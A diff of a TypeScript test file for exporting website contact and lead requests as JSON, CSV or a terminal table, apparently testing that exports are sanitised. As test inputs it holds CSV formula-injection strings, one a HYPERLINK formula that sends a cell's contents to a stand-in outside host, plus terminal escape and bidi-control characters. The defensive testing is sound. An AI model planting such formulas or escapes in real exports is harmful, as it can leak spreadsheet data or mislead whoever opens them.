@@ -4,29 +4,31 @@ import { longestBytes } from '../../requests/form-declaration'
 import { leadForm } from '../../requests/lead-form'
 import type { FormRequest } from '../../requests/request-forms'
 import { contactRequest, leadRequest } from '../../tests/mail/sample-requests'
-import { csvSeparator, formatLeads } from './leads-format'
+import { csvSeparator, formatLeads, type LeadsFormat } from './leads-format'
+import type { StoredRequest } from './store/request-store'
 
 const received = '2026-03-01T12:30:00.000Z'
 
 describe('as JSON', () => {
-  test('all fields are there, unchanged', () => {
+  test('all fields are there, unchanged', async () => {
     const requests = [contactRequest({ message: 'a\r\n\u0000\u001B[31m\uD800"=1+1,;👩‍👩‍👧‍👦' }), leadRequest()]
-    const json = formatLeads(stored(...requests), 'json')
+    const json = await format(stored(...requests), 'json')
+    expect(json.replaceAll('\n', '')).not.toMatch(/[\p{Cc}\p{Cf}]/u)
     expect(JSON.parse(json)).toEqual(
       requests.map((request, index) => ({ id: `${index + 1}`, received, forwarding: 'waiting', ...request })),
     )
     expect(json.endsWith(']\n')).toBe(true)
   })
 
-  test('no requests are an empty list', () => {
-    expect(JSON.parse(formatLeads([], 'json'))).toEqual([])
+  test('no requests are an empty list', async () => {
+    expect(JSON.parse(await format(stored(), 'json'))).toEqual([])
   })
 })
 
 describe('as CSV', () => {
-  test('there is a column for each field of either kind, for Excel in UTF-8', () => {
+  test('there is a column for each field of either kind, for Excel in UTF-8', async () => {
     const requests = [contactRequest(), leadRequest()]
-    const csv = formatLeads(stored(...requests), 'csv')
+    const csv = await format(stored(...requests), 'csv')
     expect(csv.startsWith(`\u{FEFF}id${csvSeparator}received${csvSeparator}forwarding${csvSeparator}`)).toBe(true)
     const [head, ...rows] = cells(csv)
     const names = Object.keys({ ...contactForm.fields, ...leadForm.fields, origin: '' })
@@ -46,33 +48,37 @@ describe('as CSV', () => {
     '@SUM(A1)',
     '=HYPERLINK("https://other.example?"&A1,"x")',
     '\t=1',
-    '\r=1',
-  ])('%j is no formula', (text) => {
-    const [, row] = cells(formatLeads(stored(contactRequest({ name: text })), 'csv'))
-    expect(row?.[3]).toBe(`'${text}`)
+    'a;=1',
+    'a\n=1',
+    'a,"=1',
+    'a|  @x',
+  ])('%j is no formula', async (text) => {
+    const [, row] = cells(await format(stored(contactRequest({ name: text })), 'csv'))
+    expect(row?.[3]?.replaceAll("'", '')).toBe(text.replaceAll("'", ''))
+    for (const part of row?.[3]?.split(/[;,\n\t|"]/) ?? []) expect(part).not.toMatch(/^\s*[=+@-]/)
   })
 
-  test('separators, quotes and line breaks stay in their field', () => {
-    const message = 'a,b;"c"\n"d\r\n",=1'
-    const [head, row, ...rest] = cells(formatLeads(stored(contactRequest({ message })), 'csv'))
+  test('separators, quotes and line breaks stay in their field', async () => {
+    const message = 'a,b;"c"\n"d\n",1'
+    const [head, row, ...rest] = cells(await format(stored(contactRequest({ message })), 'csv'))
     expect(row?.[head?.indexOf('message') ?? -1]).toBe(message)
     expect(rest).toEqual([])
   })
 
-  test('a message of the longest length is complete', () => {
+  test('a message of the longest length is complete', async () => {
     const message = 'a'.repeat(longestBytes.textarea)
-    const [head, row] = cells(formatLeads(stored(contactRequest({ message })), 'csv'))
+    const [head, row] = cells(await format(stored(contactRequest({ message })), 'csv'))
     expect(row?.[head?.indexOf('message') ?? -1]).toBe(message)
   })
 
-  test('no requests are a line with the names of the columns', () => {
-    expect(cells(formatLeads([], 'csv'))).toHaveLength(1)
+  test('no requests are a line with the names of the columns', async () => {
+    expect(cells(await format(stored(), 'csv'))).toHaveLength(1)
   })
 })
 
 describe('as a table', () => {
-  test('each request is a line, and they are counted', () => {
-    const table = formatLeads(stored(contactRequest(), leadRequest()), 'table')
+  test('each request is a line, and they are counted', async () => {
+    const table = await format(stored(contactRequest(), leadRequest()), 'table')
     expect(table).toMatch(/│ id +│ received +│ name +│.*│ message +│/)
     expect(table).not.toContain('origin')
     expect(table).toMatch(/│ Maria Silva +│.*│ Preciso de um orçamento\. Obrigada\. │/)
@@ -80,28 +86,34 @@ describe('as a table', () => {
     expect(table.endsWith('\n2 in all.\n')).toBe(true)
   })
 
-  test('a long text is cut, and ends with an ellipsis', () => {
-    const table = formatLeads(stored(contactRequest({ message: '🙂'.repeat(41), company: 'x'.repeat(40) })), 'table')
+  test('a long text is cut, and ends with an ellipsis', async () => {
+    const table = await format(stored(contactRequest({ message: '🙂'.repeat(41), company: 'x'.repeat(40) })), 'table')
     expect(table).toContain(`${'🙂'.repeat(39)}…`)
     expect(table).toContain('x'.repeat(40))
     expect(table).not.toContain('x'.repeat(41))
   })
 
-  test('it contains no control characters for the terminal', () => {
+  test('it contains no control characters for the terminal', async () => {
     const nasty = 'a\u001B[2Jb\u0007c\u0000d\u009B31me\u202Ef\rg\nh\u2028i\u007F'
-    const table = formatLeads(stored(contactRequest({ name: nasty, company: nasty, message: nasty })), 'table')
+    const table = await format(stored(contactRequest({ name: nasty, company: nasty, message: nasty })), 'table')
     expect(table.replaceAll('\n', '')).not.toMatch(/[\p{Cc}\p{Cf}\p{Zl}\p{Zp}]/u)
     expect(table).toContain('a\u{FFFD}[2Jb\u{FFFD}c\u{FFFD}d\u{FFFD}31me\u{FFFD}f g h i\u{FFFD}')
     expect(table.split('\n').filter((line) => line.includes('│'))).toHaveLength(2)
   })
 
-  test('no requests are a sentence', () => {
-    expect(formatLeads([], 'table')).toBe('There are no requests.\n')
+  test('no requests are a sentence', async () => {
+    expect(await format(stored(), 'table')).toBe('There are no requests.\n')
   })
 })
 
-function stored(...requests: FormRequest[]) {
-  return requests.map((request, index) => ({
+async function format(requests: AsyncIterable<StoredRequest>, as: LeadsFormat): Promise<string> {
+  let text = ''
+  for await (const part of formatLeads(requests, as)) text += part
+  return text
+}
+
+async function* stored(...requests: FormRequest[]): AsyncGenerator<StoredRequest> {
+  yield* requests.map((request, index) => ({
     id: index + 1,
     receivedAt: Date.parse(received),
     isSpam: false,
